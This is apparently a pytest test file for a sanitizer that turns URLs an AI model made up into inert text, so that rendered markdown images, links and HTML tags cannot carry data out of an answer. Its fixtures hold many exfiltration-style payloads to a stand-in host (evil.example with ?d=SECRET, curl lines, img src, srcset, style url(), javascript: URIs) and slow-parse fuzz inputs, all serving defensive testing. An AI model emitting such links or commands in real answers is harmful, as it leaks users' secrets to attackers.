"""Addresses that the model made up become plain text, however the answer is split into pieces."""

import random
from collections.abc import Sequence
from time import process_time

import pytest

from task.output.links import Suspicion
from task.output.sanitizer import Defanger
from task.output.sinks import DefangedChoice
from tests.support.choices import RecordingChoice
from tests.support.markdown_readers import leads_to_evil

KNOWN = "https://known.example/a"
EVIL = "https://evil.example/?d=SECRET"


def suspicion(*, tainted: bool = True, hosts: Sequence[str] = ()) -> Suspicion:
    return Suspicion(lambda url: url == KNOWN, lambda: tainted, hosts)


def shown(text: str, size: int = 1_000, *, tainted: bool = True, hosts: Sequence[str] = ()) -> str:
    """The text as a reader gets it, fed in pieces of `size` characters."""
    choice = RecordingChoice()
    filtered = DefangedChoice(choice, suspicion(tainted=tainted, hosts=hosts))
    for start in range(0, len(text), size):
        filtered.append_content(text[start : start + size])
    filtered.close()
    return choice.content


INERT = "https[://]evil[.]example/?d=SECRET"
SAME = (
    "Plain words, 5 < 6, a <- b, x[1]: y, Wow! How now: $5 & more.",
    f"[a page]({KNOWN}) and {KNOWN}, <{KNOWN}> ({KNOWN}) `{KNOWN}`",
    f"![known]({KNOWN}) ![ours](files/b/chart.png) [ours](files/b/x.csv) ![d](data:image/png;base64,AAAA)",
    f"[1]: {KNOWN}\n",
    f"([1]({KNOWN}),[2]({KNOWN})) [3]({KNOWN})[4]({KNOWN})then",
    f"```\ncurl {EVIL}\n![x]({EVIL})\n```\n",
    f"~~~ sh\ncurl {EVIL}\n~~~",
    f"````\n```\n{EVIL}\n````",
    "[mail](mailto:bob@example.com) and/or 1/2 // comment",
    f'<img src=" {KNOWN}" alt="Figure: a"> <a href="{KNOWN}"> <b title="a: b">c</b><br/>',
    f"`{EVIL}` and `<img src=//x>`, ``![x]({EVIL}) ` ``.\n- ```\n  <p>\n  ```\n  - b:\n    ```\n    <q>\n    ```\n",
    f"$$\na < b\n$$\n\n```\n{EVIL}\n```\n",
    "```\n  ~~~\n   ``\n    ```\n" + f"{EVIL}\n   ```\t \nend `a<b` x[1]: y\n  - z",
    "Ende.\r\nNächste Zeile mit 日本語 und ![",
)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
@pytest.mark.parametrize("text", SAME)
def test_what_leaks_nothing_stays_as_it_is(text: str, size: int) -> None:
    assert shown(text, size) == (text if not text.endswith("![") else f"{text[:-2]}!\\[")


CHANGED = {
    f"See ![a chart]({EVIL}).": f"See \\[a chart\\] (`{INERT}`).",
    f"[click]({EVIL})!": f"[click] (`{INERT}`)!",
    f"[click](<{EVIL}> 'title')": f"[click] (`{INERT}`)",
    f"see {EVIL}, ok": f"see {INERT}, ok",
    f"<{EVIL}>": f"&lt;{INERT}>",
    "www.evil.example/SECRET": "www[.]evil[.]example/SECRET",
    "[t](//evil.example/S)": "[t] (`//evil[.]example/S`)",
    "[t](https&#58;//evil.example/S)": "[t] (`https[://]evil[.]example/S`)",
    "[t](https\\://evil.example/S)": "[t] (`https[://]evil[.]example/S`)",
    "https&#58;//evil.example": "https&amp;#58;//evil.example",
    f"![a][r]\n\n[r]: {EVIL}\n": f"!\\[a][r]\n\n[r]: {INERT}\n",
    f'<img src="{EVIL}">': f'&lt;img src="{INERT}">',
    f"[![a]({EVIL})]({KNOWN})": f"[\\[a\\] (`{INERT}`)]({KNOWN})",
    f"{KNOWN}?d=SECRET": "https[://]known[.]example/a?d=SECRET",
    f'{KNOWN}"SECRET': 'https[://]known[.]example/a"SECRET',
    f"- x\n  ```\n![y]({EVIL})": f"- x\n  ```\n\\[y\\] (`{INERT}`)",
    f"```\nx\n```\n![y]({EVIL})": f"```\nx\n```\n\\[y\\] (`{INERT}`)",
    f"```\r![x]({EVIL})\r```\r![y]({EVIL})": f"```\r![x]({EVIL})\r```\r\\[y\\] (`{INERT}`)",
    f"<div>\n```\n</div>\n\n![y]({EVIL})": f"<div>\n```\n</div>\n\n\\[y\\] (`{INERT}`)",
    f"[a [b]({KNOWN}) c]({KNOWN}),SECRET": f"[a [b]({KNOWN}) c](https[://]known[.]example/a),SECRET",
    "[r]: javascript:alert(1)\n[s]:\n//evil.example": "[r] : javascript:alert(1)\n[s] :\n//evil.example",
    "[x](javascript:alert(1))": "[x] (`javascript:alert(1)`)",
    f"![x](<{KNOWN} SECRET>)": "\\[x\\] (`https[://]known[.]example/a SECRET`)",
    f'<img src="{KNOWN} SECRET">': f'&lt;img src="{KNOWN} SECRET">',
    f'<img src=" {KNOWN}&#10;SECRET">': '&lt;img src=" https[://]known[.]example/a&amp;#10;SECRET">',
    f"<img src='{KNOWN}\"SECRET'>": "&lt;img src='https[://]known[.]example/a\"SECRET'>",
    f"<img src={KNOWN}`SECRET>": "&lt;img src=https[://]known[.]example/a%60SECRET>",
    '<img alt=">" src="//evil.example/S">': '&lt;img alt=">" src="//evil.example/S">',
    "<img alt='a > b' src='//evil.example/S'>": "&lt;img alt='a > b' src='//evil.example/S'>",
    '<img/src="//evil.example/S"/>': '&lt;img/src="//evil.example/S"/>',
    "<IMG\nSRC = //evil.example/S >": "&lt;IMG\nSRC = //evil.example/S >",
    f'<img srcset="{KNOWN} 1x, //evil.example/S 2x">': f'&lt;img srcset="{KNOWN} 1x, //evil.example/S 2x">',
    '<b style="background:url(//evil.example/S)">': '&lt;b style="background:url(//evil.example/S)">',
    '<b c <x style="background:url(//evil.example/S)">': '&lt;b c &lt;x style="background:url(//evil.example/S)">',
    '<meta content="0;url=//evil.example/S">': '&lt;meta content="0;url=//evil.example/S">',
    '<a href="javascript:alert(1)">': '&lt;a href="javascript:alert(1)">',
    '<img src="https:evil.example/S">': '&lt;img src="https:evil.example/S">',
    f"  <div>\n```\n</div>\n\n![y]({EVIL})": f"  <div>\n```\n</div>\n\n\\[y\\] (`{INERT}`)",
    f" ```\n![y]({EVIL})\n": f" ```\n\\[y\\] (`{INERT}`)\n",
}


@pytest.mark.fault("gate: pictures and links that carry data out of an answer")
@pytest.mark.fault("gate: an attribute whose address browsers read to the end of its quotes")
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1_000])
@pytest.mark.parametrize("text", CHANGED)
def test_an_address_that_the_model_made_up_becomes_text_however_it_is_split(text: str, size: int) -> None:
    assert shown(text, size) == CHANGED[text]


def test_without_text_from_outside_only_what_loads_by_itself_is_suspect() -> None:
    links = f"[page]({EVIL}) {EVIL} www.evil.example <{EVIL}>"
    assert shown(links, tainted=False) == links
    assert shown(f"![x]({EVIL})", tainted=False) == f"\\[x\\] (`{INERT}`)"
    assert shown(f'<img src="{EVIL}">', tainted=False).startswith("&lt;")


def test_hosts_that_the_operator_trusts_may_be_linked_and_shown() -> None:
    text = f"![x]({EVIL}) [y]({EVIL}) {EVIL}"
    assert shown(text, hosts=["*.example"]) == text
    assert shown("![x](https://evil.example.net/)", hosts=["*.example"]) != text


class Pieces(RecordingChoice):
    """Remembers each piece of the answer."""

    def __init__(self) -> None:
        super().__init__()
        self.pieces: list[str] = []

    def append_content(self, content: str) -> None:
        self.pieces.append(content)


def test_pieces_pass_as_they_come() -> None:
    choice = Pieces()
    filtered = DefangedChoice(choice, suspicion())
    words = ["Once", " upon", " a", " time", ", there", " was", " a", " wolf", "."]
    for word in words:
        filtered.append_content(word)
    assert choice.pieces == words


def test_a_sentence_before_a_call_is_shown_completely_before_the_call() -> None:
    choice = RecordingChoice()
    filtered = DefangedChoice(choice, suspicion())
    filtered.append_content("Let me see:")
    filtered.create_stage("search")
    assert choice.content == "Let me see:"
    filtered.append_content("//evil.example/S")
    filtered.close()
    assert choice.content == "Let me see: //evil.example/S"


@pytest.mark.fault("tool: text, links or arguments that would make a stage too large for the chat")
@pytest.mark.parametrize("size", [7, 50_000])
def test_a_stage_stays_below_what_the_chat_shows_although_harmless_text_is_longer(size: int) -> None:
    choice = RecordingChoice()
    stage = DefangedChoice(choice, suspicion()).create_stage("search")
    text = f"ä [a]({EVIL}) " * 900
    stage.open()
    for start in range(0, len(text), size):
        stage.append_content(text[start : start + size])
    stage.close()
    content = choice.stages[0].content
    assert len(text) < 39_000 < len(content.encode()) <= 40_000
    assert content.endswith("[... the rest is too long for a stage]\n")


def test_stages_and_reasoning_are_made_harmless_too() -> None:
    choice = RecordingChoice()
    filtered = DefangedChoice(choice, suspicion())
    stage = filtered.create_stage("search")
    stage.open()
    stage.append_content(f"**Query**: ![x]({EVIL})\n")
    inner = stage.create_stage("inner")
    inner.open()
    inner.append_content(f"![x]({EVIL})")
    inner.close()
    stage.close()
    filtered.append_reasoning_content(f"![x]({EVIL})")
    filtered.close()
    assert [recorded.status for recorded in choice.stages] == ["completed", "completed"]
    assert all(INERT in text for text in (choice.reasoning, *(recorded.content for recorded in choice.stages)))


def test_an_incomplete_construct_is_shown_at_the_end() -> None:
    endless = f"![{'x' * 9_000}"
    assert shown(endless, 7) == f"!\\[{'x' * 9_000}"
    assert shown("[a](" + "(" * 9_000, 7) == "[a] (" + "(" * 9_000


WORST = (
    "[x](", "![", "![x](", "](", "](<", '](x "', "![[x]", "](a(b)", "](   ", "](\\", "](a\\", "](\n", "](x\n",
    "![\\]", "<a ", '<a b="', "<a b='<c d=\"", '<a b="> ', "<a b='> \"", "<a b=c ", "<a b = ", "<a/", "<a", "<a<b ",
    "<img ", '<img alt="', "<br>", "<https:", "<a:b", "]:", "]: ", "]:a", "]:a ", "]: <", "]:<a", "&a", "&#1", "$$",
    "\n", "x\n", "\r\n", "\n ", "\n`", "\n```", "\n~~~", "```\n", "~~~ `\n", "``` x\n", "   `\n", "`", "~", "://",
    ":", "\\:\\/", "www.", "w", "ww.", "a.www.", "https://", "https://a ", "https:", "a-", "!", " ", "\t", "x", "é",
    "(", "&amp;", "[a](b)", "![a](b)", f"[a]({EVIL})", f"![a]({KNOWN})", f"{EVIL} ", f"<{EVIL}>",
    '<img src="files/x">',
)  # fmt: skip
BEFORE = ("", "```", "```\n", "<a b='", "![", "](<", "](", "&")


def seconds_for(text: str, size: int = 0) -> float:
    """Processor seconds for the text, fed in pieces of `size` characters or whole."""
    defanger, step = Defanger(suspicion()), size or len(text)
    started = process_time()
    for start in range(0, len(text), step):
        defanger.feed(text[start : start + step])
    defanger.feed("", last=True)
    return process_time() - started


@pytest.mark.fault("gate: an answer made to be checked for ever")
@pytest.mark.parametrize(("before", "size"), [*((before, 0) for before in BEFORE), ("", 3)])
def test_texts_made_to_take_forever_are_read_quickly(before: str, size: int) -> None:
    slow = {unit: seconds_for(before + unit * (10_000 // len(unit)), size) for unit in WORST}
    assert max(slow.values()) < 0.4, max(slow, key=lambda unit: slow[unit])  # twenty times what it takes


def test_an_address_whose_end_is_not_awaited_is_never_taken_for_a_known_one() -> None:
    costly = "<a b='> \"" * 5_000  # what is left of the filter's patience
    assert f"{KNOWN}SECRET" not in shown(f"{costly}\n\n{KNOWN}SECRET ", len(costly) + 2 + len(KNOWN))


FRAGMENTS = (
    "![a]", "[a]", "(", ")", "](", "![", "[", "]", "`", "```", "\n", "\n\n", "~~~", '<img src="', '">', "<", ">",
    '<a href="', EVIL, "//evil.example/S", "https&#58;//evil.example/S", "https\\://evil.example/S", "<https:",
    "https:/", "www.evil.example/S", "/evil.example/S", " ", "  ", "    ", "- ", "> ", "[r]: ", "![a][r]", "[a][r]",
    "\\", '"t"', "'", "x", "word ", "\r", "$$", "<div>", "</div>", "<!--", "-->", "<pre>", "</pre>", "1. ", "# ", "|",
    "   ", "  <div>", "\n```", "~~~~", "<img alt='>' src=", "='", "&#10;", "\n   <p>", "\n    ", "![a](<", "\\]", "\\)",
    "<a href='", "https:evil.example", "https:/evil.example/S", "javascript:evil.example", "\r\n",
    KNOWN, "`` ", "\t", "!", "*", "_", "&#33;", "&lbrack;", "\ufeff", "\u00a0",
)  # fmt: skip


@pytest.mark.fault("gate: pictures and links that carry data out of an answer")
@pytest.mark.parametrize("seed", range(8))
def test_no_markdown_renderer_finds_a_leak_in_random_texts(seed: int) -> None:
    dice = random.Random(seed)
    for _ in range(300):
        text = "".join(dice.choice(FRAGMENTS) for _ in range(dice.randint(2, 14)))
        defanger, pieces, position = Defanger(suspicion()), list[str](), 0
        while position < len(text):
            size = dice.choice((1, 2, 3, 5, 9))
            pieces.append(defanger.feed(text[position : position + size]))
            position += size
        assert not leads_to_evil("".join([*pieces, defanger.feed("", last=True)])), repr(text)
